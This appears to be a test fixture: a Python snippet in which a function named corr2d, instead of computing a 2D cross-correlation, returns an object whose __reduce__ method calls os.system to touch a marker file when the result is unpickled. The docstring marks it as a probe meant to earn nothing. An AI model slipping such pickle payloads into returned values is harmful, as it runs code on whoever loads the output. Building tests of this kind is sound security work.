"""Returns an object that runs a command where it is unpacked.

Must: earn nothing
"""

# %% corr2d
class Present:
    def __reduce__(self):
        return os.system, ("touch /tmp/" + mark,)


def corr2d(X, K):
    return np.array([[Present()]], dtype=object)
